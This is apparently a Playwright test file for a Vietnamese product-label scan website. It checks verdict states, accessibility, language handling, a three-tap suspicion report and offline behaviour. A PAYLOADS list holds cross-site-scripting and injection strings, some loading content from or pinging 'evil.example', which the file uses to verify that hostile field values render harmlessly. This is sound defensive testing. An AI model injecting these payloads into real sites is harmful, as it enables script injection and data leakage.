"""The scan page in Chromium: six verdicts, hostile words, three taps to report, a copy without network."""

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from tests import servers
from tests.browser.conftest import DESK, PHONE, Open
from tests.browser.samples import RECALLED_PATH, SERIAL_PATH
from tests.resolver.chain import event, whole_document
from tests.servers import Site

pytestmark = pytest.mark.browser
GS1 = "https://id.gs1.org"
GTIN = "09521007000028"
INCOMPLETE_PATH = "/01/09521007000042/21/GZBML1X85KZ6"
NEW_PATH, COPIED_PATH = f"/01/{GTIN}/21/NEW1", "/01/09521007000028/21/756LKNKH1T6M"
UNKNOWN_PATH = f"/01/{GTIN}/21/NONE"
HOSTILE_GTIN = "09529999000019"
HOSTILE_PATH = f"/01/{HOSTILE_GTIN}/21/H1"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg/onload=alert(3)>",
    '"><iframe srcdoc="<script>parent.alert(4)</script>">',
    "'-alert(5)-'",
    "javascript:alert(6)",
    "{{ 7|add:7 }}{% debug %}",
    "</title><script src=//evil.example/x.js></script>",
    "<style>@import '//evil.example/x.css'</style>",
    "<a href=//evil.example ping=//evil.example/p>x</a>",
    "<form action=//evil.example><button autofocus onfocus=alert(7)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "\u202egnort\u202c \u2066x",
    "<!--<img src=//evil.example/c>-->",
]
AMOUNT_OF_VIEWS = """
import os
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "txng.conf.settings")
import django; django.setup(set_prefix=False)
from datetime import timedelta
from django.utils import timezone
from txng.accounts.actors import operator
from txng.analytics.actions import View, record_views
now = timezone.now()
record_views(by=operator(), views=[
    View("{path}", now - timedelta(hours=n), "phone %d" % n, "VN-%d" % n) for n in range(7)])
"""


def capture(environ: dict[str, str], document: bytes) -> None:
    done = subprocess.run(
        [*servers.COMMAND, "capture", "-"], env=environ, input=document, capture_output=True,
        check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr.decode()


def hostile_document() -> bytes:
    """Every text that a stranger may put into an event and its master data, payload after payload."""
    all_of_them = " ".join(PAYLOADS)
    place = f"{GS1}/414/9529999000002"
    party = f"{GS1}/417/9529999000002"
    attributes = {
        "cbvmda:descriptionShort": all_of_them, "txng:descriptionShortEn": all_of_them,
        "cbvmda:brandName": all_of_them, "cbvmda:netContent": all_of_them,
        "txng:standard": all_of_them, "txng:story": all_of_them, "txng:usage": all_of_them,
        "txng:storage": all_of_them, "txng:safetyWarning": all_of_them,
        "txng:image": "//evil.example/hinh/a.jpg", "txng:productGroup": all_of_them,
        "cbvmda:informationProvider": party,
    }  # fmt: skip
    told = [
        event(
            n % 27 + 1, "inspecting" if n % 2 else "storing", payload, place, action="ADD",
            epcList=[f"{GS1}/01/{HOSTILE_GTIN}/21/H1"], certificationInfo=["urn:x:" + str(n)],
            **{
                "txng:result": payload, "txng:laboratory": payload, "txng:certification": payload,
                "txng:phone": payload, "txng:reason": payload,
            },
            ilmd={"cbvmda:lotNumber": payload, "txng:packedDate": payload},
        )
        for n, payload in enumerate(PAYLOADS)
    ]  # fmt: skip
    recalled = event(
        28, "holding", "recall", place, disposition="recalled",
        epcList=[f"{GS1}/01/{HOSTILE_GTIN}/21/H2"],
        **{"txng:reason": all_of_them, "txng:phone": PAYLOADS[5]},
    )  # fmt: skip
    certificates = [
        ("urn:txng:voc:Certificate", f"urn:x:{n}", {
            "txng:scheme": payload, "txng:number": payload, "txng:issuer": payload,
            "txng:validUntil": payload,
        })
        for n, payload in enumerate(PAYLOADS)
    ]  # fmt: skip
    return whole_document(
        *told,
        recalled,
        master_data=[
            *certificates,
            ("EPCClass", f"{GS1}/01/{HOSTILE_GTIN}", attributes),
            ("Party", party, {"cbvmda:name": all_of_them, "cbvmda:state": all_of_them}),
            ("Location", place, {
                "cbvmda:name": all_of_them, "cbvmda:state": all_of_them,
                "cbvmda:countryCode": all_of_them, "cbvmda:informationProvider": party,
                "cbvmda:latitude": all_of_them, "cbvmda:longitude": "11.9",
            }),
        ],
    ).replace(b"urn:epcglobal:epcis:vtype:urn:txng", b"urn:txng")  # fmt: skip


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A small province with a label that waits, a label that was copied, and a hostile enterprise."""
    folder = tmp_path_factory.mktemp("consumer-site")
    environ = dict(os.environ, TXNG_DATA=str(folder), TXNG_HOTLINE="1900 0000", TXNG_LOG="1")
    with servers.database_beside(environ):
        servers.installed(environ)
        servers.txng(environ, "demo", "load", "--size", "small")
        printed = event(9, "encoding", "", f"{GS1}/414/9521007000004", action="ADD",
                        epcList=[GS1 + NEW_PATH])  # fmt: skip
        del printed["txng:activity"]
        capture(environ, whole_document(printed))
        capture(environ, hostile_document())
        script = AMOUNT_OF_VIEWS.replace("{path}", COPIED_PATH)
        subprocess.run([sys.executable, "-c", script], env=environ, check=True)
        with servers.serving(environ) as running:
            yield running
    shutil.rmtree(folder, ignore_errors=True)


STATES = {
    "copied": (COPIED_PATH, "Mã này đã quét ở 7 tỉnh trong"),
    "incomplete": (INCOMPLETE_PATH, "Mã có thật, thông tin chưa đủ"),
    "recalled": (RECALLED_PATH, "LÔ ĐANG THU HỒI – không dùng"),
    "inactive": (NEW_PATH, "Tem chưa kích hoạt"),
    "unknown": (UNKNOWN_PATH, "Không có mã này trong hệ thống"),
}


@pytest.mark.parametrize("state", STATES)
@pytest.mark.parametrize("width", [PHONE, DESK])
def test_each_state_is_said_first_in_words_with_an_icon_and_is_accessible(
    site: Site, visit: Open, state: str, width: int
):
    path, sentence = STATES[state]
    seen = visit(site.url + path, width=width)
    assert seen.text().startswith(sentence)
    assert seen.page.locator(f".verdict--{state} svg.icon").is_visible()
    assert seen.violations() == []
    assert not seen.is_wider_than_the_screen()


def test_a_recall_offers_the_number_to_call(site: Site, visit: Open):
    link = visit(site.url + RECALLED_PATH).page.locator("a.call")
    assert link.get_attribute("href") == "tel:19000000"
    box = link.bounding_box()
    assert box is not None
    assert box["height"] >= 44
    assert box["y"] + box["height"] < 760, "without scrolling"


@pytest.mark.parametrize("language", ["en-GB", "zh-CN", "ja-JP", "ko-KR"])
def test_five_languages_are_chosen_by_the_telephone_and_kept_without_a_cookie_that_tells_people_apart(
    site: Site, browser: Browser, language: str
):
    context = browser.new_context(locale=language, viewport={"width": PHONE, "height": 760})
    page = context.new_page()
    page.goto(site.url + SERIAL_PATH)
    spoken = page.locator("html").get_attribute("lang")
    assert spoken == {"en-GB": "en", "zh-CN": "zh-hans"}.get(language, language[:2])
    assert context.cookies() == []
    page.locator(".languages a[lang=vi]").click()
    page.goto(site.url + RECALLED_PATH)
    assert page.locator("html").get_attribute("lang") == "vi"
    assert [(one["name"], one["value"]) for one in context.cookies()] == [("django_language", "vi")]
    context.close()


@pytest.mark.parametrize(
    "path", [HOSTILE_PATH, HOSTILE_PATH.replace("H1", "H2"), f"/01/{HOSTILE_GTIN}"]
)
@pytest.mark.parametrize("language", ["vi-VN", "en-GB"])
def test_hostile_words_in_every_field_stay_words(
    site: Site, browser: Browser, path: str, language: str
):
    context = browser.new_context(locale=language, viewport={"width": PHONE, "height": 760})
    page = context.new_page()
    dialogs: list[str] = []
    hosts: set[str] = set()
    complaints: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: hosts.add(request.url.split("/")[2]))
    page.on("console", lambda message: complaints.append(message.text))
    page.add_init_script(
        "window.broken = []; addEventListener('securitypolicyviolation', e => broken.push(e.blockedURI))"
    )
    page.goto(site.url + path, wait_until="networkidle")
    for summary in page.locator("summary:visible").all():
        summary.click()
    page.wait_for_timeout(200)
    assert page.evaluate("broken") == []
    assert (dialogs, complaints, hosts) == ([], [], {site.url.removeprefix("http://")})
    assert page.url == site.url + path
    assert page.locator("main script, main iframe, main form, main base, main style").count() == 0
    assert page.locator("main img").count() == 0
    assert page.locator("main a[href*='evil'], main a[href^='javascript']").count() == 0
    assert PAYLOADS[0] in page.locator("main").inner_text()
    context.close()


@pytest.mark.parametrize("javascript", [True, False], ids=["js", "no-js"])
def test_a_suspicion_is_reported_in_three_taps(site: Site, browser: Browser, javascript: bool):
    """As in a webview: a name of its own, no cookies kept, with and without script."""
    context = browser.new_context(
        locale="vi-VN", viewport={"width": PHONE, "height": 760}, java_script_enabled=javascript,
        user_agent="Mozilla/5.0 (Linux; Android 13; wv) AppleWebKit/537.36 Chrome/120 Mobile Zalo",
    )  # fmt: skip
    page = context.new_page()
    page.goto(site.url + SERIAL_PATH)
    page.get_by_role("link", name="Báo nghi ngờ").click()
    taps = 0
    for act in (
        lambda: page.get_by_text("Tem bong, rách hoặc bị dán đè").click(),
        lambda: page.set_input_files("#photo", picture()),
        lambda: page.get_by_role("button", name="Gửi").click(),
    ):
        context.clear_cookies()
        page.wait_for_timeout(900)  # nobody taps three times within two seconds
        act()
        taps += 1
    page.wait_for_url("**/bao-nghi-ngo/LD-*")
    assert taps == 3
    number = page.locator(".done strong").inner_text()
    assert number.startswith("LD-20")
    assert context.cookies() == []
    shown = json.loads(servers.txng(site.environ, "report", "show", number, "--json"))
    assert (shown["code"], shown["reason"]) == (SERIAL_PATH, "label")
    kept = Path(shown["photo"]).read_bytes()
    assert kept.startswith(b"\xff\xd8")
    assert b"SECRET" not in kept
    servers.txng(site.environ, "report", "answer", number, "Đã kiểm tra.")
    page.goto(f"{site.url}/bao-nghi-ngo/{number}")
    assert "Đã kiểm tra." in page.locator("main").inner_text()
    context.close()


def picture() -> dict[str, object]:
    import io

    from PIL import Image

    exif = Image.Exif()
    exif[0x010E] = "SECRET place"
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), "red").save(buffer, "JPEG", exif=exif)
    return {"name": "tem.jpg", "mimeType": "image/jpeg", "buffer": buffer.getvalue()}


@pytest.mark.parametrize("width", [PHONE, DESK])
@pytest.mark.parametrize("path", ["/bao-nghi-ngo?code=" + SERIAL_PATH, "/bao-nghi-ngo",
                                  "/bao-nghi-ngo/LD-2026-999999"])  # fmt: skip
def test_the_pages_of_a_report_are_accessible(site: Site, visit: Open, path: str, width: int):
    seen = visit(site.url + path, width=width)
    assert seen.violations() == []
    assert not seen.is_wider_than_the_screen()


def test_a_copy_without_a_network_says_when_it_was_saved_and_is_no_longer_green(
    site: Site, browser: Browser
):
    context = browser.new_context(locale="vi-VN", viewport={"width": PHONE, "height": 760})
    page = context.new_page()
    green = "/01/09521007000028/10/250209G0000"
    page.goto(site.url + green, wait_until="networkidle")
    assert page.locator("#saved").is_hidden()
    page.evaluate("navigator.serviceWorker.ready")
    page.goto(site.url + green, wait_until="networkidle")  # now the worker keeps it
    ground = colour_of_verdict(page)
    context.set_offline(True)
    page.goto(site.url + green, wait_until="load")
    assert page.locator("main").inner_text().startswith("Bản lưu lúc ")
    assert "chưa kiểm tra lại thu hồi" in page.locator("#saved").inner_text()
    assert colour_of_verdict(page) != ground
    context.set_offline(False)
    page.goto(site.url + green, wait_until="networkidle")
    assert page.locator("#saved").is_hidden(), "with a network the network is asked"
    context.close()


def colour_of_verdict(page: Page) -> str:
    return str(
        page.evaluate("getComputedStyle(document.querySelector('.verdict')).backgroundColor")
    )


def test_the_proof_of_a_scan_is_checked_in_the_browser_after_one_tap(site: Site, browser: Browser):
    context = browser.new_context(locale="vi-VN", viewport={"width": PHONE, "height": 760})
    page = context.new_page()
    lot = "/01/09521007000028/10/250209G0000"
    for _ in range(70):  # the log takes a moment, and a kept page is at most a minute behind it
        page.goto(site.url + lot)
        if page.locator("[data-own-check]").count():
            break
        page.wait_for_timeout(1000)
    page.locator("[data-own-check] > summary").click()
    state = page.locator("[data-state]:not([data-state=running]):visible")
    state.first.wait_for()
    assert state.first.get_attribute("data-state") in ("verified", "log-only", "unsupported")
    context.close()
